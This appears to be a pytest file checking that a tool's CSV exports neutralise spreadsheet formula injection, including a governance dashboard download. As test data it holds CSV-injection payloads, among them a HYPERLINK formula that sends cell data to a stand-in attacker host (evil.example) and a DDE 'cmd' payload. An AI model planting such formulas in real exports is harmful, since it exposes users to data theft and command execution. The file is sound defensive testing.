"""CSV that wnb writes never starts a cell like a formula (CSV injection), checked on the helper and on every
export: the governance dashboard's download, served from a real database on both stores."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime

import httpx
import pytest

from tests.conftest import FixedClock
from tests.server import serving
from tests.web_fixtures import RED_CHILD, SECRET, event
from wnb.api import create_app
from wnb.core.csv_cells import csv_text, safe_cell
from wnb.core.ruleset import Ruleset
from wnb.database import open_database
from wnb.service import Service
from wnb.settings import load_settings
from wnb.store.accounts import create_user

STORES = ("sqlite", "postgres")  # the download test runs on both stores (conftest.py)
NOW = datetime(2026, 3, 2, 12, tzinfo=UTC)
GOVERNOR = ("gov.sam", "governance passphrase 1")
# Source names a feed may send, each of which a spreadsheet would run as a formula (a leading tab or carriage
# return cannot come this way: validation strips the whitespace around a source).
HOSTILE_SOURCES = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("cell", ["=1+1", "+44 20", "-5", "@user", "\tindented", "\rreturn"])
def test_a_cell_beginning_like_a_formula_gets_a_single_quote_in_front(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["pas", "WNB-01", "2026-03-01T00:00:00+00:00", "12", "1.5", "a=b", "", "'quoted"])
def test_an_ordinary_cell_is_written_as_it_is(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_values_that_are_not_text_are_written_as_text_and_none_as_empty() -> None:
    assert [safe_cell(value) for value in (3, 2.5, None, -1)] == ["3", "2.5", "", "'-1"]


def test_csv_text_escapes_every_cell_and_still_reads_back_as_the_same_grid() -> None:
    rows = [["name", "value"], ["=cmd|' /C calc'!A0", "a, with comma"], ["line\nbreak", "@x"]]
    read = list(csv.reader(io.StringIO(csv_text(rows))))
    assert read == [["name", "value"], ["'=cmd|' /C calc'!A0", "a, with comma"], ["line\nbreak", "'@x"]]


@pytest.fixture
def governed(db_url: str, ruleset: Ruleset) -> Iterator[tuple[str, Service]]:
    """`wnb serve`'s app over the store, with a governance user and events from sources named like formulas."""
    db = open_database(db_url)
    service = Service(db, ruleset, FixedClock(NOW))
    create_user(db, GOVERNOR[0], "governance", GOVERNOR[1])
    items = [event(RED_CHILD, f"e{n}", "2026-03-02", source=source) for n, source in enumerate(HOSTILE_SOURCES)]
    service.ingest(items, origin="feed")
    with serving(create_app(service, settings=load_settings(session_secret=SECRET))) as url:
        yield url, service
    db.dispose()


def test_the_governance_download_escapes_source_names_that_would_run_as_formulas(
    governed: tuple[str, Service],
) -> None:
    url, _ = governed
    with httpx.Client(base_url=url, timeout=10) as client:
        form = client.get("/web/sign-in")
        csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
        assert csrf is not None
        client.post("/web/sign-in", data={"csrf": csrf[1], "name": GOVERNOR[0], "password": GOVERNOR[1]})
        answer = client.get("/web/governance.csv", params={"first": "2026-03-01", "last": "2026-03-02"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(answer.text)))
    names = {row[1] for row in rows if row[0] == "source"}
    assert names == {"'" + source for source in HOSTILE_SOURCES}
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
